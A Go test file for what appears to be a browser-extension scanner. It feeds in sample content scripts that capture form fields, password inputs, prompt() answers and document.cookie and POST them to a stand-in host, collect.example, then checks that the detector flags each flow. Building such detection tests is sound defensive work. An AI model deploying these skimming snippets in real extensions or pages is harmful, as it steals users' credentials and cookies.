package analysis

import (
	"testing"

	"github.com/extwatch/extwatch/signatures/behavior"
)

// All fields of a page, however a script comes by them, and what a prompt asks for.
func TestAllFieldsOfAPage(t *testing.T) {
	for code, want := range map[string]behavior.Flow{
		`const forms = document.forms; for (let i = 0; i < forms.length; i++) forms[i].addEventListener("submit", (e) => { let s = ""; for (let i = 0; i < e.target.elements.length; i++) s += e.target.elements[i].value; SEND(s) })`: {Source: "form_data", From: "form"},
		`document.addEventListener("submit", (e) => { for (const x of e.target.elements) SEND(x.value) })`:                                                                                                                             {Source: "form_data", From: "form"},
		`document.addEventListener("submit", (e) => SEND(e.target[0].value))`:                                                                                                                                                          {Source: "form_data", From: "form"},
		`document.querySelectorAll("form").forEach((f) => f.addEventListener("submit", () => SEND(f.elements[1].value)))`:                                                                                                              {Source: "form_data", From: "form"},
		`document.addEventListener("submit", (e) => SEND(e.target.elements.password.value))`:                                                                                                                                           {Source: "password_field", From: "password"},
		`const a = Array.prototype.slice.call(document.getElementsByTagName("input"), 0); for (let i = 0; i != a.length; i++) SEND(a[i].value)`:                                                                                        {Source: "form_data", From: "input"},
		`SEND(prompt("Enter your password"))`: {Source: "password_field", From: "prompt: Enter your password"},
		`const r = XPCNativeWrapper(new window.wrappedJSObject.XMLHttpRequest()); SEND(document.cookie)`: {Source: "document.cookie", From: "<all_urls>"},
	} {
		send := `function SEND(x) { const r = new XMLHttpRequest(); r.open("POST", "https://collect.example/"); r.send(x) } `
		if want.Source == "document.cookie" {
			send = `function SEND(x) { r.open("POST", "https://collect.example/"); r.send(x) } `
		}
		r := analyzed(t, map[string]string{
			"manifest.json": `{"manifest_version": 3, "name": "x", "version": "1", "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}`,
			"c.js":          send + code,
		})
		if len(r.Flows) != 1 || r.Flows[0].Source != want.Source || r.Flows[0].From != want.From || r.Flows[0].Host != "collect.example" {
			t.Errorf("%s: %+v", code, r.Flows)
		}
	}
}
